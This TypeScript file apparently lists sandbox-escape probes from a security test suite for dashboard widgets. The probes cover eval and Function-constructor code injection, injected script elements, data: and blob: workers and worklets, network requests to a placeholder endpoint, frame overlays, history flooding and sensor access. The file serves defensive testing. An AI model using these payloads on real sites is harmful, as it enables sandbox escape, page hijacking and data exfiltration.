import type { Attack } from "../support/attack.ts";

/** What can be reached from a widget's globals that shouldn't be, and what it may do to the page around it. */
export const reachAttacks: readonly Attack[] = [
  {
    id: "reachable-objects",
    title: "any way of properties, getters and prototypes to an interface with a network, a realm or a port",
    code: String.raw`const wanted=/^(RTCPeerConnection|webkitRTCPeerConnection|WebSocket|WebSocketStream|WebTransport|XMLHttpRequest|EventSource|SharedWorker|BroadcastChannel|fetch|sendBeacon|importScripts)$/,seen=new Set(),todo=[[globalThis,'self']];while(todo.length&&seen.size<60000){const [o,way]=todo.pop();if(o===null||(typeof o!=='object'&&typeof o!=='function')||seen.has(o)||/BackgroundFetch/.test(way))continue;seen.add(o);if(typeof o==='function'&&wanted.test(o.name)&&/native code/.test(Function.prototype.toString.call(o)))P('reached '+way);if(typeof MessagePort!=='undefined'&&o instanceof MessagePort&&o!==MessagePort.prototype)P('reached a port at '+way);let keys=[];try{keys=Reflect.ownKeys(o)}catch(e){continue}for(const k of keys)try{const d=Object.getOwnPropertyDescriptor(o,k);if(!d)continue;if(d.get)todo.push([d.get,way+'.get '+String(k)]);if(d.set)todo.push([d.set,way+'.set '+String(k)]);if('value' in d)todo.push([d.value,way+'.'+String(k)]);else try{todo.push([o[k],way+'.'+String(k)])}catch(e){}}catch(e){}try{todo.push([Object.getPrototypeOf(o),way+'.__proto__'])}catch(e){}}`,
    signs: ["log"],
    ownTile: true,
  },
  {
    id: "code-from-text",
    title: "code made of text: constructors of every kind of function, timers, attributes, addresses",
    code: String.raw`const c='console.log("PWNED {{T}} code from text")';for(const f of [()=>(function(){}).constructor(c)(),()=>(async function(){}).constructor(c)(),()=>(function*(){}).constructor(c)().next(),()=>setTimeout(c,1),()=>setInterval(c,500),()=>{const d=document.createElement('div');d.setAttribute('onclick',c);document.body.append(d);d.click()},()=>{document.body.insertAdjacentHTML('beforeend','<img src=x onerror=\''+c+'\'>')},()=>{const a=document.createElement('a');a.href='javascript:'+c;document.body.append(a);a.click()},()=>globalThis['ev'+'al'](c)])try{f()}catch(e){}await new Promise(r=>setTimeout(r,300))`,
    signs: ["log"],
  },
  {
    id: "script-of-text",
    title: "a script element with code of its own, by every way to make one",
    code: String.raw`const c='console.log("PWNED {{T}} a script of text ran")';for(const f of [()=>{const s=document.createElement('script');s.text=c;return s},()=>{const s=document.createElementNS('http://www.w3.org/2000/svg','script');s.textContent=c;const v=document.createElementNS('http://www.w3.org/2000/svg','svg');v.append(s);return v},()=>document.createRange().createContextualFragment('<script>'+c+'</scr'+'ipt>'),()=>{const s=document.createElementNS('http://www.w3.org/1999/xhtml','x:script');s.textContent=c;return s}])try{document.body.append(f())}catch(e){}`,
    signs: ["log"],
  },
  {
    id: "worklets",
    title: "worklets, each a realm of its own",
    code: String.raw`const u='data:text/javascript,'+encodeURIComponent('console.log("PWNED {{T}} a worklet ran")');for(const f of [()=>CSS.paintWorklet.addModule(u),()=>new AudioContext().audioWorklet.addModule(u),()=>new OfflineAudioContext(1,1,44100).audioWorklet.addModule(u),()=>CSS.animationWorklet.addModule(u),()=>CSS.layoutWorklet.addModule(u)])try{await f()}catch(e){}`,
    signs: ["log"],
  },
  {
    id: "worker-of-data",
    title: "workers of data: and blob: addresses, shared ones, nested ones",
    code: String.raw`const c='fetch("{{E}}/x/{{T}}",{mode:"no-cors"})';for(const f of [()=>new Worker('data:text/javascript,'+encodeURIComponent(c)),()=>new SharedWorker('data:text/javascript,'+encodeURIComponent(c)),()=>new Worker(URL.createObjectURL(new Blob([c])),{type:'module'}),()=>importScripts('{{E}}/js/{{T}}')])try{f()}catch(e){}`,
    signs: ["egress", "log"],
  },
  {
    id: "network-of-a-worker",
    title: "each way out that a worker may have",
    code: String.raw`const g=globalThis,u='{{E}}/x/{{T}}';for(const f of [()=>g.fetch(u,{mode:'no-cors'}),()=>{const x=new g.XMLHttpRequest();x.open('GET',u);x.send()},()=>new g.WebSocket('{{WS}}/x/{{T}}'),()=>new g.EventSource(u),()=>navigator.sendBeacon(u,'x'),()=>g.importScripts('{{E}}/js/{{T}}'),()=>new g.Request(u)&&g.fetch(new g.Request(u)),()=>new g.FontFace('f','url('+u+')').load(),()=>Object.getPrototypeOf(Object.getPrototypeOf(g)).fetch.call(g,u)])try{const r=f();if(r&&r.catch)r.catch(()=>{})}catch(e){}`,
    signs: ["egress"],
  },
  {
    id: "shared-storage",
    title: "a storage or a channel by which two widgets talk past the dashboard",
    code: String.raw`const done=[];for(const [n,f] of [['BroadcastChannel',()=>{const b=new BroadcastChannel('x');b.postMessage('x')}],['indexedDB',()=>{indexedDB.open('x')}],['caches',()=>caches.open('x')],['locks',()=>navigator.locks.request('x',()=>1)],['storage',()=>navigator.storage.estimate()]])try{await f();done.push(n)}catch(e){}if(done.length)P(done.join())`,
    signs: ["log"],
  },
  {
    id: "window-of-others",
    title: "methods of the page's window that other origins may call",
    code: String.raw`for(let i=0;i<5;i++)for(const w of [parent,top])for(const k of ['close','blur','focus'])try{w[k]()}catch(e){}await new Promise(r=>setTimeout(r,300));try{parent.location='#'+'{{T}}'}catch(e){}try{top.location.replace('#'+'{{T}}')}catch(e){}`,
    signs: [{ host: "location.hash.includes('{{T}}')" }, "left"],
    ownTile: true,
    stoppedBySandbox: true,
  },
  {
    id: "history-flood",
    title: "the way back, buried under entries of a widget's own",
    code: String.raw`for(let i=0;i<20;i++)try{history.pushState(i,'')}catch(e){}`,
    signs: [{ host: "history.length>attacks.historyLength" }],
  },
  {
    id: "drawn-over",
    title: "something drawn over the dashboard: fixed, in the top layer, far out of its tile",
    code: String.raw`document.body.insertAdjacentHTML('beforeend','<dialog id=dg style="width:3000px;height:3000px;max-width:none;background:red;position:fixed;inset:-1000px">x</dialog><div id=pp popover style="position:fixed;inset:-1000px;width:3000px;background:red">x</div>');document.querySelector('#dg').showModal();document.querySelector('#pp').showPopover();document.documentElement.style.cssText='overflow:visible;width:5000px;height:5000px'`,
    signs: [{ host: "document.elementFromPoint(5,innerHeight-5)?.tagName==='IFRAME'" }],
    powerless: "nothing of a frame leaves it",
  },
  {
    id: "grown-frame",
    title: "a frame made larger by what is in it or by messages",
    code: String.raw`document.body.style.cssText='width:9000px;height:9000px';for(const m of [{type:'resize',height:9000},{t:'resize',height:9000},{height:9000}])try{parent.postMessage(m,'*')}catch(e){}try{sdk.resize(9000)}catch(e){}`,
    signs: [
      { host: "[...document.querySelectorAll('iframe')].some(f=>f.getBoundingClientRect().height>3000)" },
    ],
  },
  {
    id: "sensors-and-devices",
    title: "sensors, devices and permissions",
    code: String.raw`const done=[];for(const [n,f] of [['camera',()=>navigator.mediaDevices.getUserMedia({video:true})],['place',()=>new Promise((r,j)=>navigator.geolocation.getCurrentPosition(r,j))],['midi',()=>navigator.requestMIDIAccess()],['usb',()=>navigator.usb.getDevices()],['notice',()=>Notification.requestPermission().then(p=>{if(p!=='granted')throw p})],['battery',()=>navigator.getBattery()],['persist',()=>navigator.storage.persisted()],['gamepads',()=>navigator.getGamepads()]])try{await Promise.race([f(),new Promise((r,j)=>setTimeout(j,200))]);done.push(n)}catch(e){}if(done.length)P(done.join())`,
    signs: ["log"],
    stoppedBySandbox: true,
  },
];
